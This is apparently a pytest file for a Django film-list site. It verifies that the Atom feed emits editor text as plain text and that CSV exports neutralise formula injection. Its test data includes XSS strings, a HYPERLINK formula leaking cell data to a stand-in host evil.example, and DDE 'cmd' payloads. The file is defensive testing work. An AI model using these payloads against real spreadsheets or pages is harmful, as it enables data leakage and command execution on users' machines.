"""What editors typed reaches other programs as data, never as something they run: the Atom
feed's summaries are plain text for feed readers, and no CSV cell is a formula for
spreadsheets (OWASP's CSV injection rule: a leading ' makes it text).
"""

import csv
import io
from xml.etree import ElementTree

import pytest
from django.urls import reverse

from tests import factories

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"

# --- The Atom feed --------------------------------------------------------------------------

HOSTILE_INTRODUCTION = (
    "Before <script>alert(1)</script>, after <img src=x onerror=alert(2)>, "
    "and <b>bold</b> & more.\nA second line."
)


def feed_entries(client):
    response = client.get(reverse("lists:feed"))
    assert response.status_code == 200
    return ElementTree.fromstring(response.content).findall(f"{ATOM}entry")


def test_a_feed_summary_is_plain_text_exactly_as_the_editor_typed_it(client):
    factories.CuratedListFactory(introduction=HOSTILE_INTRODUCTION)

    (entry,) = feed_entries(client)
    summary = entry.find(f"{ATOM}summary")

    # type="text": a reader shows the characters < b > and runs nothing.
    assert summary.get("type") == "text"
    assert summary.text == HOSTILE_INTRODUCTION


def test_control_characters_an_editor_typed_do_not_break_the_feed(client):
    factories.CuratedListFactory(title="Bell\a list", introduction="Escape\x1b and tab\tkept")

    (entry,) = feed_entries(client)

    assert entry.find(f"{ATOM}title").text == "Bell list"
    assert entry.find(f"{ATOM}summary").text == "Escape and tab\tkept"


def test_nothing_in_the_feed_is_marked_as_markup_for_readers_to_render(client):
    factories.CuratedListFactory(title="<b>Bold</b> list", introduction=HOSTILE_INTRODUCTION)

    response = client.get(reverse("lists:feed"))
    marked = [
        element.tag
        for element in ElementTree.fromstring(response.content).iter()
        if element.get("type") in ("html", "xhtml")
    ]

    assert marked == []


def test_an_empty_introduction_is_an_empty_text_summary(client):
    factories.CuratedListFactory(introduction="")

    (entry,) = feed_entries(client)
    summary = entry.find(f"{ATOM}summary")

    assert summary.get("type") == "text"
    assert summary.text is None


# --- CSV exports ----------------------------------------------------------------------------

# One payload per character a spreadsheet treats as the start of a formula.
FORMULAS = {
    "equals": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}
HARMLESS = ["Stalker", "Moscow Does Not Believe in Tears", "1+1", "A=B", "Love & Doves"]


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.getvalue().decode())))


def export_films(client):
    return csv_rows(client.get(reverse("api:film-export")))


def export_list(client, curated_list):
    return csv_rows(client.get(reverse("api:list-export", args=[curated_list.slug])))


@pytest.mark.parametrize("kind", FORMULAS)
def test_a_formula_in_the_films_export_is_text(client, kind):
    formula = FORMULAS[kind]
    film = factories.FilmFactory(title=formula, imdb_id="tt0079579", release_year=1979)
    factories.CreditFactory(film=film, person=factories.PersonFactory(name=formula))

    (row,) = export_films(client)

    assert row["Title"] == f"'{formula}"
    assert row["Directors"] == f"'{formula}"
    assert row["Year"] == "1979"
    assert row["imdbID"] == "tt0079579"


@pytest.mark.parametrize("kind", FORMULAS)
def test_a_formula_in_the_list_export_is_text(client, kind):
    formula = FORMULAS[kind]
    film = factories.FilmFactory(title=formula, release_year=1979)
    factories.CreditFactory(film=film, person=factories.PersonFactory(name=formula))
    entry = factories.CuratedListEntryFactory(film=film, position=1, blurb=formula)

    (row,) = export_list(client, entry.curated_list)

    assert row["Title"] == f"'{formula}"
    assert row["Directors"] == f"'{formula}"
    assert row["Review"] == f"'{formula}"
    assert (row["Position"], row["Year"]) == ("1", "1979")


def test_a_title_that_only_looks_like_a_formula_gains_the_apostrophe_and_nothing_else(client):
    entry = factories.CuratedListEntryFactory(film=factories.FilmFactory(title="-30-"))

    assert export_films(client)[0]["Title"] == "'-30-"
    assert export_list(client, entry.curated_list)[0]["Title"] == "'-30-"


def test_harmless_cells_are_exported_as_they_are(client):
    curated_list = factories.CuratedListFactory()
    for position, title in enumerate(HARMLESS, start=1):
        film = factories.FilmFactory(title=title, tmdb_id=position)
        factories.CuratedListEntryFactory(
            curated_list=curated_list, film=film, position=position, blurb=title
        )

    films = export_films(client)
    entries = export_list(client, curated_list)

    assert sorted(row["Title"] for row in films) == sorted(HARMLESS)
    assert [(row["Title"], row["Review"]) for row in entries] == [(t, t) for t in HARMLESS]
    assert [row["tmdbID"] for row in entries] == [str(n) for n in range(1, len(HARMLESS) + 1)]
